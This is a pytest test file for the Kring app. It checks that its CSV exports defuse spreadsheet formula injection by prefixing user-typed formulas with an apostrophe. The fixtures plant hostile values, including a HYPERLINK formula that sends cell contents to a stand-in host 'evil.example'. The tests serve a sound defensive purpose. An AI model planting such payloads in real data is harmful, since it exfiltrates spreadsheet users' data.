"""Every CSV export, read back: what people typed that a spreadsheet would run as a formula
(``=HYPERLINK(...)``, ``+1``, ``@SUM(...)``, ``-2+3``) comes out as text, with a leading
apostrophe; the numbers and phone numbers Kring wrote itself come out as they were.

The exports: contacts (page and ``kring export-contacts``), the club report (ledger page and
``kring club report --csv``), a rotation's teams, and ``kring seat --csv``.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from kring.accounts.actions import user_update_settings
from kring.cli.main import main as kring
from kring.clubs import actions as club_actions
from kring.lib.csv import FORMULA_STARTS
from kring.people import actions as people_actions
from kring.teams import actions as team_actions
from kring.workspaces.actions import workspace_create
from kring.workspaces.models import Membership, Workspace

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_defused(rows: list[list[str]], planted: list[str], numbers: set[str] = frozenset()):
    """Each planted value is in the export as text; no other cell starts like a formula, but
    the numbers Kring wrote (``numbers``)."""
    cells = [cell for row in rows for cell in row]
    for value in planted:
        assert "'" + value in cells, (value, rows)
    for cell in cells:
        assert cell in numbers or not cell.startswith(FORMULA_STARTS), cell


@pytest.fixture
def planted(cast):
    """Alice calls herself LINK; Bob is "@SUM(1+1)"; Alice's file holds a person "+1" at
    organisation "@SUM(A1)" with role "-2+3" and tag "=cmd"."""
    user_update_settings(user=cast.alice, display_name=LINK)
    user_update_settings(user=cast.bob, display_name="@SUM(1+1)")
    people_actions.person_create(
        owner=cast.alice,
        given_name="+1",
        surname="Peeters",
        organisation_name="@SUM(A1)",
        title="-2+3",
        phones=["0470 99 88 77"],
        tags=["=cmd"],
    )
    return cast


def test_it_writes_contacts_as_text_on_the_page_and_the_command_line(planted, capsys):
    response = planted.client(planted.alice).get(reverse("export_csv"))
    page = _rows(b"".join(response.streaming_content).decode())
    phones = {"+32470998877", "+32470123456"}  # Jan's and the planted person's
    _assert_defused(page, ["+1", "@SUM(A1)", "-2+3", "=cmd"], numbers=phones)
    row = next(r for r in page if r[2] == "Peeters")
    assert row[7] == "+32470998877"  # a phone number Kring normalised stays as it is
    assert kring(["export-contacts", "--format", "csv", "--user", planted.alice.email]) == 0
    assert _rows(capsys.readouterr().out) == page


def test_it_writes_the_club_report_as_text_on_the_page_and_the_command_line(planted, capsys):
    referral = club_actions.referral_give(
        actor=planted.alice, workspace=planted.club, receiver=planted.bob, contact="Koen"
    )
    club_actions.referral_update(
        actor=planted.bob, referral=referral, status="closed", amount_eur=Decimal("1500.50")
    )
    url = reverse("club_ledger", args=[planted.club.pk]) + "?format=csv"
    page = _rows(planted.client(planted.alice).get(url).content.decode())
    _assert_defused(page, [LINK, "@SUM(1+1)"])
    bob = next(r for r in page if r[0] == "'@SUM(1+1)")
    assert bob[1:4] == ["0", "1", "1500.50"]  # numbers stay numbers
    club = str(planted.club.pk)
    assert kring(["club", "report", club, "--user", planted.bob.email, "--csv"]) == 0
    terminal = _rows(capsys.readouterr().out)
    _assert_defused(terminal, [LINK, "@SUM(1+1)"])
    assert terminal[1:] == page[1:]


def test_it_writes_a_rotation_as_text(planted):
    company = workspace_create(owner=planted.alice, name="Acme", kind=Workspace.Kind.COMPANY)
    Membership.objects.create(workspace=company, user=planted.bob)
    team_actions.departments_set(
        actor=planted.alice,
        workspace=company,
        departments={planted.alice.pk: "+Sales", planted.bob.pk: "-R&D"},
    )
    rotation = team_actions.rotation_create(
        actor=planted.alice, workspace=company, name="=Q1", team_size=2, rounds=2
    )
    response = planted.client(planted.bob).get(reverse("rotation_csv", args=[rotation.pk]))
    rows = _rows(response.content.decode())
    _assert_defused(rows, [LINK, "@SUM(1+1)", "+Sales", "-R&D"])
    assert sorted(r[0] for r in rows[1:]) == ["1", "1", "2", "2"]


def test_it_writes_a_seating_plan_as_text(tmp_path):
    people = tmp_path / "people.csv"
    people.write_text('name\n"=1+1"\n@SUM(A1)\n+1\nAnn\n', encoding="utf-8")
    tables = tmp_path / "tables.csv"
    tables.write_text("name,capacity\n-T1,2\nT2,2\n", encoding="utf-8")
    out = tmp_path / "plan.csv"
    code = kring(["seat", "--people", str(people), "--tables", str(tables), "--csv", str(out)])
    assert code == 0
    rows = _rows(out.read_text(encoding="utf-8"))
    _assert_defused(rows, ["=1+1", "@SUM(A1)", "+1", "-T1"])
    assert rows[0] == ["meeting", "table", "seat", "name"]
